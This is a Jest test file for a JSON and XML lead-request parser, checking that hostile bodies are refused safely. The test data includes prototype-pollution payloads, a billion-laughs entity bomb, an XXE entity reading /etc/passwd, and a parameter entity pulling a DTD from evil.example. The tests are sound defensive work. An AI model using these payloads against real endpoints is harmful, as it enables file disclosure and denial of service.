import { parseJsonRequest, parseXmlRequest, WIRE_LIMITS, WireBody, WireError, WireResult } from './index';

function err<T>(r: WireResult<T>): WireError {
  if (r.ok) throw new Error(`expected an error, got ${JSON.stringify(r.value)}`);
  return r.error;
}

function ok<T>(r: WireResult<T>): T {
  if (!r.ok) throw new Error(`expected a parsed request, got ${JSON.stringify(r.error)}`);
  return r.value;
}

const VALID_JSON_LEAD = '{"properties":{},"fields":{"Email":"a@b.c"}}';
const jsonBody = (source = '{"vid":1,"lid":2}', leads = `[${VALID_JSON_LEAD}]`) => `{"source":${source},"leads":${leads}}`;

afterEach(() => {
  // Nothing a test parsed may have reached the shared prototypes.
  expect(Object.prototype).not.toHaveProperty('polluted');
  expect(Object.prototype).not.toHaveProperty('noSell');
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
});

describe('hostile JSON', () => {
  it.each([
    ['unterminated object', '{"source": {"vid": 1'],
    ['missing value', '{"a":}'],
    ['trailing comma', '{"source":{"vid":1,},"leads":[]}'],
    ['single quotes', "{'source':{}}"],
    ['NaN literal', '{"source":{"vid":NaN}}'],
    ['garbage', 'hello world'],
    ['XML sent as JSON', '<Leads vid="1"/>'],
  ])('%s → malformed', (_name, body) => {
    expect(err(parseJsonRequest('general', body))).toMatchObject({ code: 'malformed' });
  });

  it('the parse error does not echo the body back', () => {
    const e = err(parseJsonRequest('general', '{"secret-token-123": }'));
    expect(e.message).toMatch(/^the request body is not valid JSON/);
    expect(e.message).not.toContain('secret-token-123');
  });

  it.each([
    ['an array', '[{"source":{}}]', 'a list'],
    ['a string', '"hello"', 'a string'],
    ['a number', '42', 'a number'],
    ['null', 'null', 'null'],
    ['a boolean', 'true', 'a boolean'],
  ])('top-level %s → malformed', (_name, body, what) => {
    expect(err(parseJsonRequest('general', body))).toEqual({
      code: 'malformed',
      message: `the request body must be a JSON object with "source" and "leads", not ${what}`,
    });
  });

  it.each([
    ['vid 1e400 (Infinity)', jsonBody('{"vid":1e400,"lid":2}'), 'source.vid', 'source.vid is out of range'],
    ['vid beyond 2^53', jsonBody('{"vid":123456789012345678901234567890,"lid":2}'), 'source.vid', 'source.vid is out of range'],
    ['vid as a digit string beyond 2^53', jsonBody('{"vid":"99999999999999999999","lid":2}'), 'source.vid', 'source.vid is out of range'],
    ['field 1e400', jsonBody(undefined, '[{"fields":{"Income":1e400}}]'), 'leads[0].fields.Income', 'leads[0].fields.Income is a number out of range'],
    ['sendDelay 1e308', jsonBody('{"vid":1,"lid":2,"sendDelay":1e308}'), 'source.sendDelay', 'source.sendDelay must be between 0 and 8760 hours'],
  ])('huge number: %s', (_name, body, field, message) => {
    expect(err(parseJsonRequest('general', body))).toEqual({ code: 'invalid_field', field, message });
  });

  it('deep nesting is refused before JSON.parse (inside a field and at top level)', () => {
    const deepField = jsonBody(undefined, `[{"fields":{"x":${'['.repeat(50)}${']'.repeat(50)}}}]`);
    expect(err(parseJsonRequest('general', deepField))).toMatchObject({ code: 'too_large' });
    const veryDeep = '['.repeat(500_000);
    expect(err(parseJsonRequest('general', veryDeep))).toMatchObject({ code: 'too_large' });
    const nestedObjects = '{"a":'.repeat(WIRE_LIMITS.maxJsonDepth + 1) + '1' + '}'.repeat(WIRE_LIMITS.maxJsonDepth + 1);
    expect(err(parseJsonRequest('general', nestedObjects))).toMatchObject({ code: 'too_large' });
  });

  it('brackets inside strings do not count as nesting', () => {
    const value = ok(parseJsonRequest('general', jsonBody(undefined, `[{"fields":{"x":"${'[{'.repeat(100)}\\"${'['.repeat(20)}"}}]`)));
    expect(value.leads[0].fields['x']).toBe(`${'[{'.repeat(100)}"${'['.repeat(20)}`);
  });

  it('__proto__ / constructor members pollute nothing', () => {
    const body =
      '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},' +
      '"source":{"vid":1,"lid":2,"__proto__":{"polluted":"yes"}},' +
      '"leads":[{"__proto__":{"fields":{"x":"y"}},"properties":{"__proto__":{"noSell":true},"constructor":{"prototype":{"noSell":true}}},"fields":{"Email":"a@b.c"}}]}';
    const value = ok(parseJsonRequest('general', body));
    expect(value.leads[0]).toEqual({ properties: { noSell: false, offerIds: [] }, fields: { Email: 'a@b.c' } });
    expect(Object.getPrototypeOf(value.leads[0].fields)).toBe(Object.prototype);
  });

  it.each(['__proto__', 'constructor', 'prototype'])('a lead field named %s is refused', (name) => {
    const body = jsonBody(undefined, `[{"fields":{"Email":"a@b.c","${name}":{"polluted":"yes"}}}]`);
    const e = err(parseJsonRequest('general', body));
    expect(e).toMatchObject({ code: 'invalid_field', field: `leads[0].fields.${name}` });
    expect(e.message).toContain('reserved name');
    const scalar = jsonBody(undefined, `[{"fields":{"${name}":"x"}}]`);
    expect(err(parseJsonRequest('general', scalar))).toMatchObject({ code: 'invalid_field', field: `leads[0].fields.${name}` });
  });

  it('fields named like Object.prototype members are ordinary own fields', () => {
    const value = ok(parseJsonRequest('general', jsonBody(undefined, '[{"fields":{"toString":"a","hasOwnProperty":"b","valueOf":"c"}}]')));
    expect(Object.entries(value.leads[0].fields)).toEqual([
      ['toString', 'a'],
      ['hasOwnProperty', 'b'],
      ['valueOf', 'c'],
    ]);
  });

  it('a body above the size limit is refused without parsing', () => {
    const big = jsonBody(undefined, `[{"fields":{"x":"${'a'.repeat(WIRE_LIMITS.maxBodyBytes)}"}}]`);
    expect(err(parseJsonRequest('general', big))).toEqual({ code: 'too_large', message: `the request body is larger than ${WIRE_LIMITS.maxBodyBytes} bytes` });
    expect(err(parseJsonRequest('general', new Uint8Array(WIRE_LIMITS.maxBodyBytes + 1)))).toMatchObject({ code: 'too_large' });
  });

  it('non-UTF-8 bytes, replacement characters and raw control characters are refused', () => {
    expect(err(parseJsonRequest('general', Buffer.from([0x7b, 0xff, 0xfe, 0xc3, 0x28, 0x7d])))).toEqual({ code: 'malformed', message: 'the request body is not valid UTF-8' });
    expect(err(parseJsonRequest('general', jsonBody(undefined, '[{"fields":{"x":"caf\uFFFD"}}]')))).toMatchObject({ code: 'malformed' });
    expect(err(parseJsonRequest('general', `${jsonBody()}\u0000`))).toMatchObject({ code: 'malformed' });
  });

  it('escaped NUL, control characters and lone surrogates in values name the field', () => {
    for (const escaped of ['\\u0000', '\\u0007', '\\ud800', '\\udfff', '\\uFFFE']) {
      const e = err(parseJsonRequest('general', jsonBody(undefined, `[{"fields":{"Name":"a${escaped}b"}}]`)));
      expect(e).toMatchObject({ code: 'invalid_field', field: 'leads[0].fields.Name' });
    }
    const e = err(parseJsonRequest('general', jsonBody(undefined, '[{"properties":{"reference":"\\u0000"},"fields":{}}]')));
    expect(e).toMatchObject({ code: 'invalid_field', field: 'leads[0].properties.reference' });
  });

  it('a valid surrogate pair (emoji) is fine', () => {
    expect(ok(parseJsonRequest('general', jsonBody(undefined, '[{"fields":{"Name":"\\ud83d\\ude00 ok"}}]'))).leads[0].fields['Name']).toBe('\u{1F600} ok');
  });

  it.each([
    ['empty', ''],
    ['whitespace', '  \n\t '],
    ['only a BOM', '\uFEFF'],
  ])('%s body → malformed', (_name, body) => {
    expect(err(parseJsonRequest('general', body))).toEqual({ code: 'malformed', message: 'the request body is empty' });
  });

  it('a body that is not text (a framework handing over an object) → malformed', () => {
    for (const body of [undefined, null, { source: {} }, 42]) {
      expect(err(parseJsonRequest('general', body as unknown as WireBody))).toEqual({ code: 'malformed', message: 'the request body is missing' });
    }
  });

  it('a leading BOM is accepted', () => {
    expect(ok(parseJsonRequest('general', `\uFEFF${jsonBody()}`)).source.vid).toBe(1);
  });
});

describe('hostile XML', () => {
  const LEAD = '<Lead><Email>a@b.c</Email></Lead>';
  const leads = (inner = LEAD, attrs = 'vid="1" lid="2"') => `<Leads ${attrs}>${inner}</Leads>`;

  it('a DOCTYPE is refused', () => {
    expect(err(parseXmlRequest('general', `<!DOCTYPE Leads>${leads()}`))).toEqual({
      code: 'unsupported',
      message: 'XML markup declarations (<!DOCTYPE) are not accepted: send the document without a DOCTYPE or ENTITY',
    });
  });

  it('billion laughs (internal entities) is refused immediately', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE lolz [',
      ' <!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
      ']>',
      '<Leads vid="1" lid="2"><Lead><Name>&lol9;</Name></Lead></Leads>',
    ].join('\n');
    const started = Date.now();
    expect(err(parseXmlRequest('general', lol))).toMatchObject({ code: 'unsupported' });
    expect(Date.now() - started).toBeLessThan(1000);
  });

  it('an external entity (XXE, SYSTEM file:///etc/passwd) is refused and nothing is read', () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE Leads [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${leads('<Lead><Name>&xxe;</Name></Lead>')}`;
    const e = err(parseXmlRequest('general', xxe));
    expect(e.code).toBe('unsupported');
    expect(e.message).not.toMatch(/root:/);
  });

  it('an ENTITY declaration without a DOCTYPE, and a parameter entity, are refused', () => {
    expect(err(parseXmlRequest('general', `<!ENTITY x "y">${leads()}`))).toMatchObject({ code: 'unsupported' });
    expect(err(parseXmlRequest('general', `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>${leads()}`))).toMatchObject({ code: 'unsupported' });
  });

  it('an undeclared entity reference is malformed (no expansion, no lookup)', () => {
    expect(err(parseXmlRequest('general', leads('<Lead><Name>&xxe;</Name></Lead>')))).toMatchObject({ code: 'malformed' });
  });

  it('"<!DOCTYPE ... <!ENTITY" inside a CDATA section is only text: kept literally, never declared or expanded', () => {
    const text = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;';
    const value = ok(parseXmlRequest('general', leads(`<Lead><Name><![CDATA[${text}]]></Name></Lead>`)));
    expect(value.leads[0].fields).toEqual({ Name: text });
  });

  it('CDATA with markup is text: no element is created from it', () => {
    const value = ok(parseXmlRequest('general', leads('<Lead><Name><![CDATA[<Lead reference="x"><Email>evil</Email></Lead> & <script>]]></Name></Lead>')));
    expect(value.leads).toHaveLength(1);
    expect(value.leads[0].fields).toEqual({ Name: '<Lead reference="x"><Email>evil</Email></Lead> & <script>' });
  });

  it.each([
    ['unclosed root', '<Leads vid="1" lid="2"><Lead><Email>a</Email></Lead>'],
    ['unclosed lead', '<Leads vid="1" lid="2"><Lead></Leads>'],
    ['mismatched tags', '<Leads vid="1" lid="2"><Lead><Email>a</Name></Lead></Leads>'],
    ['unclosed start tag', '<Leads vid="1" lid="2"><Lead'],
    ['unquoted attribute', '<Leads vid=1 lid="2"><Lead/></Leads>'],
    ['unclosed comment', '<Leads vid="1" lid="2"><!-- <Lead/></Leads>'],
    ['unclosed CDATA', '<Leads vid="1" lid="2"><Lead><E><![CDATA[x</E></Lead></Leads>'],
    ['stray closing tag', '</Leads>'],
    ['two roots', '<Leads vid="1" lid="2"><Lead/></Leads><Leads/>'],
    ['text after the root', `${leads()}junk`],
    ['text before the root', `junk${leads()}`],
    ['plain text', 'hello'],
    ['JSON sent as XML', '{"source":{}}'],
    ['a repeated attribute', '<Leads vid="1" vid="2" lid="2"><Lead/></Leads>'],
    ['a raw ampersand', leads('<Lead><Name>A & B</Name></Lead>')],
    ['a lone <', leads('<Lead><Name>1 < 2</Name></Lead>')],
  ])('%s → malformed', (_name, body) => {
    expect(err(parseXmlRequest('general', body))).toMatchObject({ code: 'malformed' });
  });

  it('processing instructions other than the leading XML declaration are refused', () => {
    expect(err(parseXmlRequest('general', `<?xml-stylesheet href="x.xsl"?>${leads()}`))).toMatchObject({ code: 'unsupported' });
    expect(err(parseXmlRequest('general', leads('<Lead><?php echo 1; ?><E>x</E></Lead>')))).toMatchObject({ code: 'unsupported' });
    expect(err(parseXmlRequest('general', `<!-- c --><?xml version="1.0"?>${leads()}`))).toMatchObject({ code: 'unsupported' });
    expect(ok(parseXmlRequest('general', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${leads()}`)).leads).toHaveLength(1);
  });

  it('a declared non-UTF-8 encoding is refused for byte input', () => {
    const body = `<?xml version="1.0" encoding="ISO-8859-1"?>${leads()}`;
    expect(err(parseXmlRequest('general', Buffer.from(body, 'latin1')))).toMatchObject({ code: 'unsupported' });
  });

  it('excessive depth is refused by the pre-scan', () => {
    const deep = (n: number) => `<Leads vid="1" lid="2"><Lead>${'<a>'.repeat(n)}x${'</a>'.repeat(n)}</Lead></Leads>`;
    expect(err(parseXmlRequest('general', deep(WIRE_LIMITS.maxXmlDepth)))).toMatchObject({ code: 'too_large' });
    expect(err(parseXmlRequest('general', deep(100_000)))).toMatchObject({ code: 'too_large' });
    expect(err(parseXmlRequest('general', deep(2)))).toMatchObject({ code: 'invalid_field', field: 'leads[0].fields.a' });
  });

  it('too many elements are refused by the pre-scan', () => {
    const many = leads(`<Lead>${'<a/>'.repeat(WIRE_LIMITS.maxXmlElements)}</Lead>`);
    expect(err(parseXmlRequest('general', many))).toEqual({ code: 'too_large', message: `the XML has more than ${WIRE_LIMITS.maxXmlElements} elements` });
  });

  it('an element with too many attributes is refused by the pre-scan', () => {
    const attrs = Array.from({ length: WIRE_LIMITS.maxXmlAttributesPerElement + 1 }, (_, i) => `a${i}="1"`).join(' ');
    expect(err(parseXmlRequest('general', `<Leads vid="1" lid="2"><Lead ${attrs}><E>1</E></Lead></Leads>`))).toMatchObject({ code: 'too_large' });
  });

  it('elements named __proto__ / constructor pollute nothing and are refused as field names', () => {
    const e = err(parseXmlRequest('general', leads('<Lead><__proto__><polluted>yes</polluted></__proto__></Lead>')));
    expect(e).toMatchObject({ code: 'invalid_field', field: 'leads[0].fields.__proto__' });
    expect(err(parseXmlRequest('general', leads('<Lead><constructor>x</constructor></Lead>')))).toMatchObject({ field: 'leads[0].fields.constructor' });
    expect(err(parseXmlRequest('general', leads('<Lead><__proto__>x</__proto__></Lead>')))).toMatchObject({ field: 'leads[0].fields.__proto__' });
    const attrs = ok(parseXmlRequest('general', '<Leads vid="1" lid="2" __proto__="x" constructor="y"><Lead __proto__="z"><E>1</E></Lead></Leads>'));
    expect(attrs.source).toEqual({ vid: 1, lid: 2, sendDelay: 0 });
  });

  it('non-UTF-8 garbage and binary are refused', () => {
    expect(err(parseXmlRequest('general', Buffer.from([0x3c, 0x4c, 0xff, 0xfe, 0x00, 0x80, 0x3e])))).toEqual({ code: 'malformed', message: 'the request body is not valid UTF-8' });
    expect(err(parseXmlRequest('general', '<Leads vid="1" lid="2"><Lead><N>\u0001\u0002</N></Lead></Leads>'))).toMatchObject({ code: 'malformed' });
    expect(err(parseXmlRequest('general', '<Leads vid="1" lid="2"><Lead><N>\uFFFD</N></Lead></Leads>'))).toMatchObject({ code: 'malformed' });
    expect(err(parseXmlRequest('general', '<Leads vid="1" lid="2"><Lead><N>&#0;</N></Lead></Leads>'))).toMatchObject({ code: 'malformed' });
  });

  it('a UTF-16 encoded document is refused, not misread', () => {
    const utf16 = Buffer.from(`\uFEFF${leads()}`, 'utf16le');
    expect(parseXmlRequest('general', utf16).ok).toBe(false);
  });

  it('a body above the size limit is refused without parsing', () => {
    const big = leads(`<Lead><N>${'a'.repeat(WIRE_LIMITS.maxBodyBytes)}</N></Lead>`);
    expect(err(parseXmlRequest('general', big))).toMatchObject({ code: 'too_large' });
  });

  it('an over-long field value is refused naming the field', () => {
    const body = leads(`<Lead><Notes>${'a'.repeat(WIRE_LIMITS.maxFieldValueLength + 1)}</Notes></Lead>`);
    expect(err(parseXmlRequest('general', body))).toMatchObject({ code: 'too_large', field: 'leads[0].fields.Notes' });
  });
});
